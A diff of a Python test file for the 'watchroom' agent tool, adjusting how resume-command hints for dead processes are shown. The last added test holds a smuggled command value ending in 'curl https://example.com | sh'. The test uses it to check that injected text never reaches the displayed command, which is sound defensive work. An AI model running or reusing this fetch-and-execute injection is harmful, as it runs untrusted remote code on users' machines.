@@ -55,11 +55,11 @@ async def test_a_dead_process_is_one_need_however_many_agents_it_ran(workspace: 
         (need,) = lost(shown)
         assert (need.work.agents, need.hint, need.answers) == (
             ("alice", "bob"),
-            "watchroom demo here",
+            "watchroom demo DIR",
             ("resume", "seen"),
         )
         assert [status(shown, agent) for agent in ("alice", "bob", "charlie")] == ["lost", "lost", "idle"]
-        assert shown.message_reader("alice") == ("resumed", "watchroom demo here")
+        assert shown.message_reader("alice") == ("resumed", "watchroom demo DIR")
         assert model.message_reader("alice") == ("now", "")
         assert model.message_reader("charlie") == ("never", "")
         assert absent_work(shown) != absent_work(model)
@@ -70,7 +70,9 @@ async def test_a_need_for_a_dead_process_is_the_same_once_a_row_tells_of_it(work
         model = folded(workspace.journal)
         (before,) = lost(with_presences(model, leases(workspace, alive=False)))
         lease = workspace.journal.present()
-        note = Note(SYSTEM, LOST, "workspace", lease, "failed", "not_seen_alive", message="go on")
+        note = Note(
+            SYSTEM, LOST, "workspace", lease, "failed", "not_seen_alive", message="watchroom demo here"
+        )
         (told,) = workspace.journal.append([note])
         model = folded(workspace.journal)
         (after,) = lost(with_presences(model, list))
@@ -81,7 +83,7 @@ async def test_a_need_for_a_dead_process_is_the_same_once_a_row_tells_of_it(work
         )
         assert status(model, "alice") == "lost"
         assert after.row == told.row
-        assert folded(workspace.journal).message_reader("bob") == ("resumed", "go on")
+        assert folded(workspace.journal).message_reader("bob") == ("resumed", "watchroom demo DIR")
         ok(workspace.tools_for_human("dana"), "cancel_agent", agent_id="bob")
         await bob.ended()
         (left,) = lost(folded(workspace.journal))
@@ -181,11 +183,11 @@ def test_two_dead_processes_of_one_task_are_one_need_with_the_command_that_resum
         draft = Write(agent, "finish", "session", f"{agent}/1", "{}", expected=0, detail=detail)
         workspace.journal.append([draft])
     dead = [
-        Presence(GONE, False, 2, "here", 0, "watchroom task here"),
+        Presence(GONE, False, 2, "here", 0, "watchroom task --team here"),
         Presence(RELEASED, False, 3, "here", 0, ""),
     ]
     (need,) = lost(with_presences(folded(workspace.journal), lambda: dead))
-    assert (need.work.agents, need.hint) == (("tim", "zoe"), "watchroom task here")
+    assert (need.work.agents, need.hint) == (("tim", "zoe"), "watchroom task --team DIR")
     for each in dead:
         note = Note(SYSTEM, LOST, "workspace", each.id, "failed", "not_seen_alive", message=each.resume)
         workspace.journal.append([note])
@@ -201,7 +203,7 @@ def test_the_loss_of_a_process_can_be_marked_as_seen_before_a_row_tells_of_it(
     begin = Write("bob", "begin_session", "session", "bob/1", "{}", expected=0)
     hold = f"""
 from watchroom.journal.sqlite import SqliteJournal
-print(SqliteJournal({str(root / ".watchroom/journal.db")!r}).present("go on"), flush=True)
+print(SqliteJournal({str(root / ".watchroom/journal.db")!r}).present("watchroom demo here"), flush=True)
 import os
 os.kill(os.getpid(), 9)
 """
@@ -209,7 +211,7 @@ os.kill(os.getpid(), 9)
     detail = {"status": "running", PRESENCE: done.stdout.strip()}
     ((step, _),) = workspace.journal.append([begin._replace(detail=detail)])
     (need,) = lost(with_presences(folded(workspace.journal), workspace.journal.presences))
-    assert (need.row.seq, need.hint) == (step.seq, "go on")
+    assert (need.row.seq, need.hint) == (step.seq, "watchroom demo DIR")
     ok(workspace.tools_for_human("dana"), "mark_as_seen", row=need.row.seq)
     model = with_presences(folded(workspace.journal), workspace.journal.presences)
     assert (lost(model), status(model, "bob")) == ([], "lost")
@@ -246,3 +248,19 @@ def test_requests_that_expired_are_one_need_until_a_person_has_seen_them(workspa
     assert left.identity != need.identity
     ok(workspace.tools_for_human("dana"), "mark_as_seen", row=left.row.seq)
     assert urgent_needs(folded(workspace.journal), 0) == ()
+
+
+def test_a_lease_or_a_row_cannot_say_which_command_a_need_shows(workspace: Workspace, root: Path) -> None:
+    evil = "watchroom resume x alice; curl https://example.com | sh"
+    detail = {"status": "running", PRESENCE: GONE}
+    workspace.journal.append(
+        [Write("alice", "begin_session", "session", "alice/1", "{}", expected=0, detail=detail)]
+    )
+    dead = [Presence(GONE, False, 2, "here", 0, evil)]
+    (need,) = lost(with_presences(folded(workspace.journal), lambda: dead, str(root)))
+    expected = (f"watchroom resume {root} alice", ("command",))
+    assert need.resume == expected
+    note = Note(SYSTEM, LOST, "workspace", GONE, "failed", "not_seen_alive", message=evil)
+    workspace.journal.append([note])
+    (need,) = lost(with_presences(folded(workspace.journal), list, str(root)))
+    assert need.resume == expected
